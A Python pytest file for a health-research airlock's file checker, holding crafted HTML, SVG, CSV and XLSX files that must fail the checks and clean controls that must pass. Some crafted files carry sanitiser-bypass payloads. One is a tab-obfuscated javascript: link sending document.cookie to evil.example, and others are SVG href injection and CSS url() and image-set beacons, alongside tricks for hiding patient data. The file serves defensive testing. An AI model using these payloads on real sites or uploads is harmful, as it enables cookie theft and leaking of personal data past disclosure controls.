"""Fourteen crafted files that passed the airlock's automatic file checks, each of which must now
fail them, and clean controls (a plain CSV table, a long-format table, a clean PNG, a clean SVG
chart, a clean HTML report, a clean XLSX table) that pass.

The checks no longer look for known-bad markup only: SVG and HTML must already be exactly what an
allow-list sanitiser (nh3) keeps, what it keeps is checked again for hiding styles, and tables
with the shape of person-level data fail instead of being marked "not a table"."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook

from phta.disclosure.file_checks import check_file
from tests.unit.disclosure.test_file_checks import png

SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="240" height="120" viewBox="0 0 240 120" role="img">{}</svg>'
HTML = "<!DOCTYPE html><html lang='en'><head><title>Table 1</title></head><body>{}</body></html>"
TABLE = "<table><caption>Readmissions</caption><tr><th scope='col'>Age</th><th scope='col'>n</th></tr><tr><td>18-49</td><td>30</td></tr></table>"


def svg(body: str) -> bytes:
    return SVG.format(body).encode()


def html(body: str, head: str = "") -> bytes:
    return HTML.format(body).replace("</head>", head + "</head>").encode()


def person_level_csv() -> bytes:
    rows = ["person_ref,sex,age_band,readmitted"]
    rows += [f"R{i:05d},{'FM'[i % 2]},{['18-49', '50-69', '70+'][i % 3]},{i % 2}" for i in range(2000)]
    return ("\n".join(rows) + "\n").encode()


CRAFTED = {
    # hidden data
    "css-hidden.html": html(f"{TABLE}<p class='x'>NHS 943 476 5919</p>", "<style>.x {{ display: none }}</style>"),
    "opacity-zero.html": html(f"{TABLE}<p style='opacity: 0%'>person 12345, born 1950-01-02</p>"),
    "opacity-zero.svg": svg('<text x="5" y="20" opacity=".0">person 12345</text>'),
    "font-size-zero.html": html(f"{TABLE}<p><span style='font-size:0px'>person 12345</span></p>"),
    "font-size-zero.svg": svg('<text x="5" y="20" style="font-size: 0">person 12345</text>'),
    "meta-content.html": html(TABLE, "<meta name='rows' content='12345,F,1950-01-02;12346,M,1961-03-04'>"),
    "title-attribute.html": html(TABLE.replace("<td>30</td>", "<td title='12345, 12346, 12347'>30</td>")),
    "svg-desc.svg": svg("<desc>12345,F,1950-01-02</desc><rect x='1' y='1' width='5' height='5'/>"),
    # scripts and network calls
    "tab-javascript.html": html(f"{TABLE}<p><a href='java&#9;script:fetch(`//evil.example/`+document.cookie)'>methods</a></p>"),
    "animate-href.svg": svg('<a><animate attributeName="href" to="javascript:alert(1)"/><text x="5" y="20">Click</text></a>'),
    "set-href.svg": svg('<a><set attributeName="href" to="https://evil.example/beacon"/><text x="5" y="20">More</text></a>'),
    "css-escaped-url.html": html(f"<div style='background: u\\72l(https://evil.example/beacon.png)'>{TABLE}</div>"),
    "image-set.html": html(f"<div style=\"background-image: image-set('https://evil.example/p.png' 1x)\">{TABLE}</div>"),
    # record-level data
    "person-level.csv": person_level_csv(),
}


def test_there_are_fourteen():
    assert len(CRAFTED) == 14


@pytest.mark.parametrize("name", CRAFTED)
def test_every_crafted_file_fails_the_checks(name):
    report = check_file(name, CRAFTED[name])
    assert not report.passed, f"{name} passed the automatic file checks"
    assert all(f.where and f.explanation for f in report.findings)


def test_the_person_level_csv_fails_as_person_level_not_as_not_a_table():
    (finding,) = [f for f in check_file("person-level.csv", CRAFTED["person-level.csv"]).findings]
    assert finding.rule == "person_level" and "2000 rows" in finding.explanation
    # and however the columns are named: exact dates, or a different value on every row
    dated = b"sex,admitted\n" + b"".join(b"F,2024-%02d-%02d\n" % (1 + i % 12, 1 + i % 28) for i in range(200))
    assert "person_level" in {f.rule for f in check_file("d.csv", dated).findings}
    keyed = b"ref,sex\n" + b"".join(b"X%04d,F\n" % i for i in range(200))
    assert "person_level" in {f.rule for f in check_file("k.csv", keyed).findings}
    ones = b"age,sex,n\n" + b"".join(b"%d,%s,1\n" % (i, b"FM"[i % 2:i % 2 + 1]) for i in range(200))
    assert "person_level" in {f.rule for f in check_file("o.csv", ones).findings}


def xlsx(rows, *, formula: bool = False, hidden_sheet: bool = False) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    if formula:
        sheet["D2"] = "=SUM(B2:C2)"
    if hidden_sheet:
        book.create_sheet("rows").sheet_state = "hidden"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


LONG_TABLE = "age_band,sex,n_patients\n" + "".join(
    f"{age},{sex},{20 + (age * 7 + len(sex)) % 50}\n" for age in range(18, 108) for sex in ("F", "M"))
CLEAN = {
    "table.csv": b"age \\ sex,F,M,Total\n18-49,40,25,65\n50-69,48,61,109\nTotal,88,86,174\n",
    "long-table.csv": LONG_TABLE.encode(),  # 180 rows of counts: long, but not person-level
    "figure.png": png(),
    "chart.svg": ('<?xml version="1.0" encoding="UTF-8"?>\n' + SVG.format(
        '<title>Readmissions by age band</title>'
        '<rect x="10" y="90" width="60" height="20" fill="#1d4f91"/>'
        '<rect x="90" y="50" width="60" height="60" style="fill: #1d4f91; stroke: #000"/>'
        '<text x="10" y="115" font-size="10" text-anchor="start">18-49</text>')).encode(),
    "report.html": html(f"<h1>Table 1</h1>{TABLE}<p>See <a href='https://example.org/methods'>methods</a>.</p>"),
    # a charset declaration alone carries nothing (any other <meta> still fails: meta-content.html)
    "report-with-charset.html": html(f"<h1>Table 1</h1>{TABLE}", head='<meta charset="utf-8">'),
    "table.xlsx": xlsx([["age \\ sex", "F", "M"], ["18-49", 40, 25], ["50-69", 48, 61]]),
    # as pandas' DataFrame.to_html() writes a table
    "pandas-table.html": b'<table border="1" class="dataframe">\n  <thead>\n    <tr style="text-align: right;">\n'
                         b'      <th>age</th>\n      <th>n</th>\n    </tr>\n  </thead>\n  <tbody>\n    <tr>\n'
                         b'      <td>18-49</td>\n      <td>30</td>\n    </tr>\n  </tbody>\n</table>',
}


@pytest.mark.parametrize("name", CLEAN)
def test_clean_controls_pass(name):
    report = check_file(name, CLEAN[name])
    assert report.passed, report.findings


def test_workbooks_with_formulas_or_hidden_sheets_fail():
    rows = [["age \\ sex", "F", "M"], ["18-49", 40, 25]]
    assert "formula" in {f.rule for f in check_file("t.xlsx", xlsx(rows, formula=True)).findings}
    assert "hidden_data" in {f.rule for f in check_file("t.xlsx", xlsx(rows, hidden_sheet=True)).findings}
    assert "malformed" in {f.rule for f in check_file("t.xlsx", b"PK not really").findings}


def test_a_meta_charset_with_anything_else_still_fails():
    for head in ('<meta charset="utf-8" content="12345,F,1950-01-02">', '<meta charset="12345,F,1950-01-02 x">',
                 '<meta http-equiv="refresh" content="0;url=https://example.org">'):
        assert not check_file("r.html", html(f"<h1>T</h1>{TABLE}", head=head)).passed, head


def test_attributes_on_the_document_wrappers_are_seen():
    # the sanitiser drops <html>/<body>; data in their attributes must still fail the file
    for markup in ('<body title="12345,F,1950-01-02"><h1>T</h1></body>', '<html data-x="12345"><h1>T</h1></html>'):
        assert not check_file("r.html", markup.encode()).passed, markup
    assert check_file("r.html", b'<html lang="en"><body><h1>T</h1></body></html>').passed  # control
